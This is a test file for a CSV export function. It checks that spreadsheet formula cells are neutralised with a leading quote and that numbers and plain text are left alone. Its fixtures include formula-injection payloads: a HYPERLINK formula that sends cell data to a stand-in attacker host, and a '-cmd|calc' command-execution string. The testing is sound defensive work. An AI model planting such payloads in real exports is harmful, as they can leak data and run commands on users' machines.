import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toSpreadsheetCsv } from '@/lib/csv';

/** The CSV read back as a spreadsheet would: `;`-separated, BOM dropped. */
const readBack = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';' }).data;

describe('CSV for a spreadsheet', () => {
  it('writes a planted formula as text, with a leading quote', () => {
    const rows = readBack(
      toSpreadsheetCsv(
        ['Famiglia', 'Nome'],
        [
          ['=HYPERLINK("http://evil.example/?x="&A1;"Rossi")', 'Marco'],
          ['+39 333 1234567', '@SUM(A1)'],
          ['-cmd|calc', '\tTab'],
          ['\rReturn', 'Bianchi'],
        ],
      ),
    );
    expect(rows.slice(1)).toEqual([
      ['\'=HYPERLINK("http://evil.example/?x="&A1;"Rossi")', 'Marco'],
      ["'+39 333 1234567", "'@SUM(A1)"],
      ["'-cmd|calc", "'\tTab"],
      ["'\rReturn", 'Bianchi'],
    ]);
  });

  it('keeps numbers as numbers, negative ones included, and ordinary text as it is', () => {
    const rows = readBack(
      toSpreadsheetCsv(
        ['Prezzo', 'Cognome'],
        [
          ['-50,00', "D'Amico"],
          ['280,00', 'De Rossi'],
          ['-7', 'Verdi'],
        ],
      ),
    );
    expect(rows.slice(1)).toEqual([
      ['-50,00', "D'Amico"],
      ['280,00', 'De Rossi'],
      ['-7', 'Verdi'],
    ]);
  });
});
